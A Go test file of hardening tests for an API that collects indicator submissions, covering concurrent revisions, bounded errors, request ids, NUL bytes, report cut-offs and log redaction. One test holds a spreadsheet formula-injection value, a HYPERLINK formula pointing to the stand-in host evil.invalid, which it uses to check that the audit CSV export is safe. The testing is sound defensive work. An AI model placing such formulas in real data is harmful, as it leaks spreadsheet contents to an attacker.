package api_test

// Hardening tests (issue 20): concurrent writers of one figure, bounded
// error lists, client request ids, spreadsheet formulas in CSV exports.

import (
	"bytes"
	"context"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/prometheus/client_golang/prometheus"

	"github.com/kraeftplan/kpv/api"
	"github.com/kraeftplan/kpv/indicators"
	"github.com/kraeftplan/kpv/internal/pgtest"
	"github.com/kraeftplan/kpv/internal/testkit"
	"github.com/kraeftplan/kpv/store"
)

// Twenty submissions of the same figure at once are all accepted, as
// successive revisions; none is refused for the race (14 of 20 once
// answered 500 on a unique violation). The values are invented.
func TestConcurrentSubmissionsOfOneFigureBecomeRevisions(t *testing.T) {
	l := newLiveServer(t)
	const n = 20
	statuses := make([]int, n)
	bodies := make([]string, n)
	var wg sync.WaitGroup
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			body := fmt.Sprintf("period;geography;value\n2025;DK-82;%d\n", 40+i)
			rp := l.do(t, "POST", gpPlan, "regioner", "text/csv", body)
			statuses[i], bodies[i] = rp.status, string(rp.body)
		}()
	}
	wg.Wait()
	accepted := 0
	for i, s := range statuses {
		if s == 200 || s == 201 {
			accepted++
		} else {
			t.Errorf("submission %d answered %d: %.300s", i, s, bodies[i])
		}
	}
	revs := l.count(t, `SELECT count(DISTINCT revision) FROM observations WHERE indicator_id = 'g1_gp_followup_plan' AND geography = 'DK-82'`)
	top := l.count(t, `SELECT max(revision) FROM observations WHERE indicator_id = 'g1_gp_followup_plan' AND geography = 'DK-82'`)
	t.Logf("%d of %d concurrent submissions accepted; revisions 1..%d", accepted, n, top)
	if revs != n || top != n {
		t.Errorf("%d distinct revisions up to %d, want 1..%d", revs, top, n)
	}
}

// One 4 MiB batch of duplicate rows answers, audits and logs a bounded
// list (the first 100 problems, the total and the kinds), and a long input
// value is repeated only as an excerpt; the public run log stays small.
func TestErrorListsAreBounded(t *testing.T) {
	l := newLiveServer(t)
	row := "2025;DK-82;61,5\n"
	body := "period;geography;value\n" + strings.Repeat(row, (4<<20-100)/len(row))
	rp := l.do(t, "POST", gpPlan, "regioner", "text/csv", body)
	var prob struct {
		Errors      []map[string]any `json:"errors"`
		ErrorsTotal int              `json:"errors_total"`
		ErrorKinds  map[string]int   `json:"error_kinds"`
	}
	rp.json(t, &prob)
	runs := l.do(t, "GET", "/api/v1/ingest/runs?limit=1", "", "", "")
	audit := l.count(t, `SELECT max(octet_length(detail::text)) FROM audit_log`)
	runLog := l.count(t, `SELECT max(octet_length(detail::text)) FROM ingest_runs`)
	t.Logf("a %d-byte batch of duplicates: answer %d bytes (%d listed of %d), audit entry %d bytes, run log entry %d bytes, GET runs?limit=1 %d bytes",
		len(body), len(rp.body), len(prob.Errors), prob.ErrorsTotal, audit, runLog, len(runs.body))
	if rp.status != 422 || len(prob.Errors) != 100 || prob.ErrorsTotal < 250_000 || prob.ErrorKinds["period"] != prob.ErrorsTotal {
		t.Errorf("answer %d with %d errors listed, total %d, kinds %v; want 422, 100 listed, every duplicate counted", rp.status, len(prob.Errors), prob.ErrorsTotal, prob.ErrorKinds)
	}
	for what, n := range map[string]int{"answer": len(rp.body), "audit entry": audit, "run log entry": runLog, "run log page": len(runs.body)} {
		if n > 64<<10 {
			t.Errorf("the %s is %d bytes, want at most 64 KiB", what, n)
		}
	}

	// A 100 kB cell is quoted in a message only as an excerpt.
	long := strings.Repeat("x", 100_000)
	rp = l.do(t, "POST", gpPlan, "regioner", "text/csv", "period;geography;value\n2025;DK-82;"+long+"\n")
	if rp.status != 422 || len(rp.body) > 4<<10 || strings.Contains(string(rp.body), strings.Repeat("x", 300)) {
		t.Errorf("a 100 kB bad value: answer %d of %d bytes, want 422 quoting at most a short excerpt", rp.status, len(rp.body))
	}
}

// A client's X-Request-Id is kept only when short and of a safe alphabet;
// an anonymous refused request writes a small audit entry whatever it
// sends; the admin's audit CSV opens as data in a spreadsheet.
func TestRequestIDIsCheckedAndAuditCSVIsSafe(t *testing.T) {
	l := newLiveServer(t)
	send := func(id string) string {
		req, _ := http.NewRequest("POST", l.srv.URL+gpPlan, strings.NewReader("period;geography;value\n2025;DK-82;50\n"))
		req.Header.Set("Content-Type", "text/csv")
		req.Header.Set("X-Request-Id", id)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != 401 {
			t.Fatalf("anonymous write answered %d, want 401", resp.StatusCode)
		}
		return resp.Header.Get("X-Request-Id")
	}
	huge := "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"Klik\")" + strings.Repeat("A", 500_000)
	if got := send(huge); got == "" || len(got) > 64 || strings.Contains(got, "HYPERLINK") {
		t.Errorf("a 500 kB formula id answered with id %.80q, want one kpv made", got)
	}
	if got := send("abc-123.def_4:5"); got != "abc-123.def_4:5" {
		t.Errorf("a safe client id came back as %q", got)
	}
	send("-x1")
	var ids []string
	rows, err := l.st.AuditLog(context.Background(), store.AuditFilter{})
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range rows {
		ids = append(ids, e.RequestID)
	}
	biggest := l.count(t, `SELECT max(octet_length(a::text)) FROM audit_log a`)
	t.Logf("audit entries of three anonymous refusals: largest %d bytes; request ids %q", biggest, ids)
	if biggest > 2048 {
		t.Errorf("an anonymous refused request wrote an audit entry of %d bytes, want at most 2 KiB", biggest)
	}
	csv := l.do(t, "GET", "/api/v1/audit?format=csv", "admin", "", "")
	if csv.status != 200 || strings.Contains(string(csv.body), "HYPERLINK") || !strings.Contains(string(csv.body), ",'-x1,") {
		t.Errorf("audit CSV %d:\n%s\nwant the formula gone and the id -x1 written as '-x1", csv.status, csv.body)
	}
}

// A NUL in a breakdown key or a CSV heading is refused, audited, and ends
// its run (Postgres refuses NUL in jsonb and text, which once lost the
// audit entry and left the run running); a submission run left running by
// a stopped process or database is ended by the next submission.
func TestNULIsAuditedAndStaleSubmissionRunsEnd(t *testing.T) {
	l := newLiveServer(t)
	for _, c := range []struct{ ctype, body string }{
		{"application/json", `{"observations":[{"period":"2025","geography":"DK-82","value":50,"breakdown":{"se\u0000x":"k"}}]}`},
		{"text/csv", "per\x00iod;geography;value\n2025;DK-82;50\n"},
		{"text/csv", "period;geography;value;sex\x00\n2025;DK-82;50;k\n"},
	} {
		t.Run(c.ctype, func(t *testing.T) {
			rp := l.do(t, "POST", gpPlan, "regioner", c.ctype, c.body)
			if rp.status < 400 || rp.status >= 500 {
				t.Errorf("a batch with a NUL (%s) answered %d: %s", c.ctype, rp.status, rp.body)
			}
		})
	}
	audited := l.count(t, `SELECT count(*) FROM audit_log WHERE action = 'observations.submit'`)
	running := l.count(t, `SELECT count(*) FROM ingest_runs WHERE outcome = 'running'`)
	t.Logf("3 batches with a NUL: %d audit entries, %d runs left running", audited, running)
	if audited != 3 || running != 0 {
		t.Errorf("%d audit entries and %d runs left running, want 3 and 0", audited, running)
	}

	if err := l.st.Exec(context.Background(), `INSERT INTO ingest_runs (source_id, kind, started_at) VALUES ('indberetning', 'submission', now() - interval '1 hour')`); err != nil {
		t.Fatal(err)
	}
	if rp := l.do(t, "POST", gpPlan, "regioner", "text/csv", "period;geography;value\n2025;DK-82;50\n"); rp.status != 200 {
		t.Fatalf("submission answered %d: %s", rp.status, rp.body)
	}
	if n := l.count(t, `SELECT count(*) FROM ingest_runs WHERE outcome = 'running'`); n != 0 {
		t.Errorf("%d submission runs still running after the next submission, want the stale one interrupted", n)
	}
	if n := l.count(t, `SELECT count(*) FROM ingest_runs WHERE kind = 'submission' AND outcome = 'interrupted'`); n != 1 {
		t.Errorf("%d submission runs interrupted, want 1", n)
	}
}

// A submission that began before a cut-off and commits after it must not
// change a report already served for that cut-off: the report for the
// cut-off is served only once that write has ended (503 with Retry-After
// while it goes), and is then the same every time. (Invented figures.)
func TestReportForACutOffDoesNotChangeAfterServed(t *testing.T) {
	l := newLiveServer(t)
	ctx := context.Background()
	if rp := l.do(t, "POST", gpPlan, "regioner", "text/csv", "period;geography;value\n2025;DK-82;77,8\n"); rp.status != 200 {
		t.Fatalf("first submission: %d %s", rp.status, rp.body)
	}
	cat := l.cat
	in, _ := cat.Indicator("g1_gp_followup_plan")
	started, release, done := make(chan struct{}), make(chan struct{}), make(chan error, 1)
	go func() {
		_, err := l.st.Record(ctx, "indberetning", store.KindSubmission, func(ctx context.Context, tx pgx.Tx, runID int64) (store.Counts, error) {
			v := 66.6
			obs, err := indicators.Prepare(cat, []indicators.Observation{{Indicator: in.ID, Period: "2025", Geography: "DK-82", Value: &v}})
			if err != nil {
				return store.Counts{}, err
			}
			n, err := store.WriteObservations(ctx, tx, runID, "indberetning", obs)
			close(started)
			<-release
			return n, err
		})
		done <- err
	}()
	<-started
	time.Sleep(50 * time.Millisecond)
	cutoff := time.Now().UTC().Format(time.RFC3339Nano)
	time.Sleep(50 * time.Millisecond)
	path := "/api/v1/reports/2026?format=csv&as_of=" + cutoff
	first := l.do(t, "GET", path, "", "", "")
	close(release)
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	second := l.do(t, "GET", path, "", "", "")
	has := func(rp reply, v string) bool { return strings.Contains(string(rp.body), v) }
	t.Logf("while a write begun before the cut-off was open: %d (Retry-After %q, has 77.8: %v); after it committed: %d (has 66.6: %v)",
		first.status, first.header.Get("Retry-After"), has(first, "77.8"), second.status, has(second, "66.6"))
	if second.status != 200 || !has(second, "66.6") {
		t.Fatalf("after the write committed the report answered %d without 66.6:\n%.2000s", second.status, second.body)
	}
	if first.status == 200 && string(first.body) != string(second.body) {
		t.Errorf("the report as of %s changed after it was served (77.8 then 66.6)", cutoff)
	}
	if first.status != 503 || first.header.Get("Retry-After") == "" {
		t.Errorf("while a write begun before the cut-off was open, the report answered %d (Retry-After %q), want 503 with Retry-After", first.status, first.header.Get("Retry-After"))
	}
}

// With Postgres gone, a Postgres-backed endpoint answers 503 with
// Retry-After, not 500.
func TestDatabaseDownAnswers503(t *testing.T) {
	ctx := context.Background()
	url := pgtest.NewDatabase(t)
	st, err := store.Open(ctx, url)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	if _, err := st.Migrate(ctx); err != nil {
		t.Fatal(err)
	}
	cat := testkit.Catalogue(t)
	srv := httptest.NewServer(api.New(api.Options{Catalogue: cat, Store: st, Registerer: prometheus.NewRegistry(), Gatherer: prometheus.NewRegistry()}))
	defer srv.Close()
	cfg, _ := pgx.ParseConfig(url)
	admin, err := pgx.Connect(ctx, pgtest.URL(t))
	if err != nil {
		t.Fatal(err)
	}
	defer admin.Close(ctx)
	if _, err := admin.Exec(ctx, "DROP DATABASE "+cfg.Database+" WITH (FORCE)"); err != nil {
		t.Fatal(err)
	}
	resp, err := http.Get(srv.URL + "/api/v1/ingest/runs?limit=1")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	t.Logf("with the database gone: %d, Retry-After %q", resp.StatusCode, resp.Header.Get("Retry-After"))
	if resp.StatusCode != 503 || resp.Header.Get("Retry-After") == "" {
		t.Errorf("with the database gone the run log answered %d (Retry-After %q), want 503 with Retry-After", resp.StatusCode, resp.Header.Get("Retry-After"))
	}
}

// A token sent in the query string never reaches the server's log.
func TestTokenInQueryStringIsNotLogged(t *testing.T) {
	l := newLiveServer(t)
	var logged bytes.Buffer
	cat := l.cat
	srv := httptest.NewServer(api.New(api.Options{Catalogue: cat, Store: l.st, Logger: slog.New(slog.NewTextHandler(&logged, nil)),
		Registerer: prometheus.NewRegistry(), Gatherer: prometheus.NewRegistry()}))
	defer srv.Close()
	secret := l.tokens["admin"]
	for _, path := range []string{"/api/v1/audit?token=" + secret, "/api/v1/goals?access_token=" + secret, "/api/v1/goals?x=" + secret} {
		resp, err := http.Get(srv.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
	}
	if strings.Contains(logged.String(), secret) || !strings.Contains(logged.String(), "REDACTED") {
		t.Errorf("the server log holds the token or no redaction:\n%s", logged.String())
	}
}

// The open run log shows no rejected values, local paths or Postgres
// errors; an admin's token shows them.
func TestPublicRunLogHidesWhatIsForAdmins(t *testing.T) {
	l := newLiveServer(t)
	dir := t.TempDir()
	l.do(t, "POST", gpPlan, "regioner", "text/csv", "period;geography;value\n2025;DK-82;hemmelig-værdi\n")
	if err := l.st.Exec(context.Background(), `INSERT INTO ingest_runs (source_id, kind, outcome, finished_at, error, detail)
		VALUES ('lup', 'ingest', 'failed', now(), 'ERROR: duplicate key value violates unique constraint (SQLSTATE 23505)', $1)`,
		`{"origin":"file:`+dir+`/LUP-bilag.xlsx"}`); err != nil {
		t.Fatal(err)
	}
	public := string(l.do(t, "GET", "/api/v1/ingest/runs", "", "", "").body)
	admin := string(l.do(t, "GET", "/api/v1/ingest/runs", "admin", "", "").body)
	for _, secret := range []string{"hemmelig", dir, "SQLSTATE"} {
		if strings.Contains(public, secret) {
			t.Errorf("the open run log shows %q:\n%s", secret, public)
		}
		if !strings.Contains(admin, secret) {
			t.Errorf("the admin's run log lacks %q", secret)
		}
	}
	if !strings.Contains(public, "LUP-bilag.xlsx") {
		t.Errorf("the open run log lost the file's name:\n%s", public)
	}
}

// Field names are matched exactly and no CSV cell is ignored: each is
// refused, naming the field or the cell. (Invented figures.)
func TestStrictFieldNamesAndCells(t *testing.T) {
	l := newLiveServer(t)
	for _, c := range []struct{ ctype, body, field, msg string }{
		{"application/json", `{"observations":[{"period":"2025","geography":"DK-82","Value":50}]}`, "Value", "write value, not Value"},
		{"text/csv", "period;geography;value\n2025;DK-82;50;51\n", "column 4", "beyond the header's 3 columns"},
	} {
		t.Run(c.ctype+"/"+c.field, func(t *testing.T) {
			rp := l.do(t, "POST", gpPlan, "regioner", c.ctype, c.body)
			if rp.status != 422 || !strings.Contains(string(rp.body), `"field":"`+c.field+`"`) || !strings.Contains(string(rp.body), c.msg) {
				t.Errorf("%s %q answered %d: %s; want 422 naming %s", c.ctype, c.body, rp.status, rp.body, c.field)
			}
		})
	}
	if rp := l.do(t, "POST", gpPlan, "regioner", "application/json", `{"OBSERVATIONS":[]}`); rp.status != 400 {
		t.Errorf(`{"OBSERVATIONS":[]} answered %d, want 400`, rp.status)
	}
	if n := l.count(t, `SELECT count(*) FROM observations`); n != 0 {
		t.Errorf("%d figures written by refused batches", n)
	}
}
